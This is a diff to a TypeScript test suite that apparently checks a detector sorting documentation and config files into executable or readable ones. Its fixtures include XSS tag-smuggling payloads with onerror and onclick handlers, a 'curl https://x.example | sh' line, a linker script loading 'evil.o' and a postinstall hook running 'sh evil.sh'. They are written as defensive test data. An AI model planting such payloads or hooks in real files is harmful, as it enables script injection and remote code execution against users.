@@ -7,6 +7,11 @@ const RUNS: readonly Row[] = [
   ['a.md', '[x](java&#115;cript:alert(1))\n'],
   ['a.md', '[x](java&#x73;cript&colon;alert(1))\n'],
   ['a.md', '<img src=x\nonerror\n=alert(1)>\n'],
+  ['a.md', '<a title="<b>" onclick=f()>\n'],
+  ['a.md', '<img alt=<b src=x onerror=f()>\n'],
+  ['a.md', '<<b>img src=x onerror=f()>\n'],
+  ['a.md', '<i<b>mg src=x><img\nonerror=f()>\n'],
+  ['a.md', '<b\n>x</b\nonclick=f()>\n'],
   ['a.md', '<svg/onload=alert(1)>\n'],
   ['a.md', '```python exec="on"\nprint(1)\n```\n'],
   ['a.md', '> ```{python}\n> 1\n> ```\n'],
@@ -42,6 +47,15 @@ const RUNS: readonly Row[] = [
   ['a.1', '.rn sy x\n'],
   ['a.org', '#+MACRO: x (eval (shell-command "id"))\n'],
   ['a.muse', '<lisp>(x)</lisp>\n'],
+  ['VERSION-2.x', 'SECTIONS\n{ .text : { *(.text) } }\n'],
+  ['VERSION-2.x', 'INPUT(evil.o)\n'],
+  ['VERSION-2.x', 'set -e\ncurl https://x.example | sh\n'],
+  ['VERSION-2.x', '#!/bin/sh\necho 1\n'],
+  ['VERSION-2.x', '%hook A\n'],
+  ['VERSION-2.x', 'program A { version B { int C(void) = 1; } = 1; } = 2;\n'],
+  ['VERSION.x', 'Words of a version.\n'],
+  ['memory-2.x', 'A thing=1\n'],
+  ['package-support.json', '{"hooks": {"postinstall": "sh evil.sh"}}\n'],
 ];
 
 const READ: readonly Row[] = [
@@ -52,6 +66,7 @@ const READ: readonly Row[] = [
   ['README.md', '[![build](https://x.example/a.svg)](https://x.example)\n\n<kbd>A</kbd><br/>\n'],
   ['README.md', '---\ntitle: A\nlayout: page\n---\n\n# A\n'],
   ['README.md', '---\n\nA rule, and words.\n'],
+  ['README.md', 'With `<settings>`.\n\nA badge ->` b. With OnOverflow=Split.\n'],
   ['README.md', 'Call `{f(x)}` or {x}.\n\n```js\nconst onLoad = () => {};\n```\n'],
   ['a.md', '``` { .yaml .annotate }\na: 1\n```\n\n```js {1,3}\nrun(1)\n```\n'],
   ['a.md', '```bash\ncurl https://x.example | sh\n```\n'],
@@ -63,6 +78,8 @@ const READ: readonly Row[] = [
   ['a.1', '.TH A 1\n.SH NAME\na \\- the pi command\n'],
   ['a.pod', '=head1 A\n\nwords\n\n=cut\n'],
   ['a.org', '* A\n\nwords\n'],
+  ['release-notes/VERSION-2.x', '2.18.1 (not yet released)\n\n#1: Fails with `a` (reported by X)\n (fix by Y)\n'],
+  ['package-support.json', '{"versions": [{"version": "*", "backing": {"donations": ["https://x.example"]}}]}\n'],
 ];
 
 describe('prose', () => {
